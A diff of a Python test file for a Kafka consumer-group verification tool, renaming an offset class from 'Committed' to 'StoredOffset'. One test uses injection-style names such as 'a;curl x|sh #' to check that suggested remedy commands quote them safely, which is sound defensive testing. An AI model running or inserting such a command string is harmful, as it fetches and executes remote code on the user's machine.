@@ -12,7 +12,6 @@ from hypothesis import strategies as st
 
 from pyspark_zkafka.errors import CodecError
 from pyspark_zkafka.inspect.groups import (
-    Committed,
     GroupReport,
     GroupReports,
     LogBounds,
@@ -23,6 +22,7 @@ from pyspark_zkafka.inspect.groups import (
 )
 from pyspark_zkafka.model.assignors import Subscribers, assign, threads_by_topic
 from pyspark_zkafka.model.nouns import TopicPartition
+from pyspark_zkafka.model.resumption import StoredOffset
 from pyspark_zkafka.model.view_tables import Row
 from pyspark_zkafka.model.znodes.groups import ConsumerRegistration, decode_registration
 from pyspark_zkafka.tools.group_verify import Problem, verify, verify_group, verify_groups
@@ -53,7 +53,7 @@ U0 = TopicPartition("u", 0)
 LOGS = {T0: LogBounds(5, 10, czxid=50), T1: LogBounds(0, 10, czxid=50)}
 C1 = Member(ConsumerRegistration({"t": 1}), 7)
 GROUP = GroupReport(
-    "g", {"g_c1": C1}, {T0: Owner("g_c1-0", 7), T1: Owner("g_c1-0", 7)}, {T0: Committed(5), T1: Committed(10)}
+    "g", {"g_c1": C1}, {T0: Owner("g_c1-0", 7), T1: Owner("g_c1-0", 7)}, {T0: StoredOffset(5), T1: StoredOffset(10)}
 )
 
 
@@ -69,7 +69,7 @@ def claimed(tp: TopicPartition, owner: Owner) -> GroupReport:
 
 def committed(tp: TopicPartition, offset: int, mzxid: int | None = None) -> GroupReport:
     """Return the proper group with another offset."""
-    return replace(GROUP, offsets={**GROUP.offsets, tp: Committed(offset, mzxid=mzxid)})
+    return replace(GROUP, offsets={**GROUP.offsets, tp: StoredOffset(offset, mzxid=mzxid)})
 
 
 def test_proper_group() -> None:
@@ -165,7 +165,7 @@ def test_regex_that_only_java_accepts() -> None:
 
 def test_remedies_with_hostile_names() -> None:
     """Names of groups and topics are quoted in commands to copy."""
-    offsets = {TopicPartition("gone; x", 0): Committed(5), TopicPartition("t", 0): Committed(10**6)}
+    offsets = {TopicPartition("gone; x", 0): StoredOffset(5), TopicPartition("t", 0): StoredOffset(10**6)}
     problems = verify_group(replace(GROUP, name="a;curl x|sh #", offsets=offsets), LOGS)
     remedies = [problem.remedy for problem in problems if problem.remedy.startswith("zkafka")]
     assert len(remedies) == 2
